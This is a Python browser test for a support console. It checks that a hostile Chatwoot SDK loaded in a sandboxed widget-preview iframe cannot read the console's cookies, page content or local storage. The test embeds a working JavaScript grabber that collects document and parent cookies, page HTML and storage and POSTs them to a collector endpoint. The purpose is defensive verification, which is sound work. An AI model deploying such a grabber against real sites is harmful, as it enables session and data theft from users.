"""Issue 10, item 1, in real Chromium: a hostile sdk.js in the widget preview gets nothing of the console,
and the sign-in cookie is HttpOnly and SameSite=Lax (set by the server, invisible to every script)."""

from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from tests.browser.helpers import COOKIE, first_admin_password, sign_in_as_admin
from tests.chromium import session_cookie
from tests.fakes.chatwoot import FakeChatwoot, add_acme_with_ada

pytestmark = pytest.mark.browser
TOKEN = "cw-isolation-admin-token-7"
MARKER = "console-local-storage-marker-5"

# What a hostile Chatwoot server's SDK tries: the console's cookies, page and storage, sent to a collector.
HOSTILE_SDK = """
(function () {
  var collector = new URL("/collect", document.currentScript.src).href;  // a data: page has no base URL
  var loot = {};
  function grab(name, read) { try { loot[name] = String(read()); } catch (e) { loot[name] = "refused: " + e.name; } }
  grab("origin", function () { return window.origin; });
  grab("cookie", function () { return document.cookie; });
  grab("parentCookie", function () { return window.parent.document.cookie; });
  grab("parentPage", function () { return window.parent.document.body.innerText; });
  grab("topPage", function () { return window.top.document.documentElement.outerHTML; });
  grab("parentStorage", function () { return JSON.stringify(window.parent.localStorage); });
  grab("ownStorage", function () { return JSON.stringify(window.localStorage); });
  fetch(collector, {method: "POST", mode: "no-cors", body: JSON.stringify(loot)});
  window.chatwootSDK = {run: function () {
    window.$chatwoot = {};
    window.dispatchEvent(new Event("chatwoot:ready"));
  }};
})();
"""


class HostileChatwoot:
    """Serves /packs/js/sdk.js (the widget's base URL) and collects what the SDK posts to /collect."""

    def __init__(self) -> None:
        self.collected: list[dict] = []
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                body = HOSTILE_SDK.encode() if self.path == "/packs/js/sdk.js" else b""
                self.send_response(200 if body else 404)
                self.send_header("Content-Type", "application/javascript")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self):
                raw = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                outer.collected.append(json.loads(raw or b"{}"))
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def hostile(monkeypatch):
    server = HostileChatwoot()
    # The widget's script (and so the preview) loads the SDK from here; the API stays on the fake Chatwoot.
    monkeypatch.setenv("CHATWOOT_WIDGET_BASE_URL", server.url)
    yield server
    server.close()


@pytest.fixture
def chatwoot():
    with FakeChatwoot() as fake:
        account = add_acme_with_ada(fake, TOKEN)
        fake.add_inbox(account.id, "Website", website_url="https://acme.test")
        yield fake


def add_integration(app_server, monkeypatch, chatwoot) -> None:
    """The Chatwoot integration, saved straight through the services on the app's own database."""
    import app_context
    from core.settings import load_settings

    for name in ("DATABASE_URL", "CONSOLE_SECRETS_DIR", "OUTBOUND_ALLOW"):
        monkeypatch.setenv(name, app_server["env"][name])
    ctx = app_context.build(load_settings(), migrate=False)
    admin = ctx.users.get_by_username("admin").actor()
    config = {"baseUrl": chatwoot.url, "accountId": "1", "apiKey": TOKEN}
    ctx.integrations.create(admin, "Acme desk", "CHATWOOT", config)
    ctx.engine.dispose()


def test_a_hostile_sdk_in_the_preview_gets_nothing_of_the_console(browser, hostile, app_server, chatwoot, monkeypatch):
    page = browser.new_page(viewport={"width": 1400, "height": 1400})
    page.set_default_timeout(20_000)
    page.goto(app_server["url"])
    password = first_admin_password(app_server["log"])
    sign_in_as_admin(page, password)

    cookie = session_cookie(page, COOKIE)
    assert cookie["httpOnly"] is True and cookie["sameSite"] == "Lax"
    assert cookie["secure"] is False  # plain HTTP here; over HTTPS the server adds Secure
    assert COOKIE not in page.evaluate("document.cookie")  # no script of the console's page sees it
    page.evaluate(f"localStorage.setItem('marker', {json.dumps(MARKER)})")

    add_integration(app_server, monkeypatch, chatwoot)
    page.goto(app_server["url"] + "/widget")
    page.get_by_text("Show a live preview").click()
    frame = page.frame_locator("iframe[title='Live preview of the chat widget']")
    frame.get_by_text("Preview: the chat bubble is in the bottom right corner").wait_for()
    page.wait_for_timeout(500)
    page.screenshot(path=str(app_server["tmp"] / "widget-preview.png"), full_page=True)

    for _ in range(50):
        if hostile.collected:
            break
        page.wait_for_timeout(100)
    assert hostile.collected, "the hostile SDK did not run"
    loot = hostile.collected[-1]
    assert loot["origin"] == "null"  # an opaque origin
    for name in ("parentCookie", "parentPage", "topPage", "parentStorage"):
        assert loot[name].startswith("refused: SecurityError"), (name, loot[name])
    everything = json.dumps(loot)
    assert cookie["value"] not in everything and COOKIE not in everything and MARKER not in everything
    assert session_cookie(page, COOKIE)["value"] == cookie["value"]  # the browser still holds it
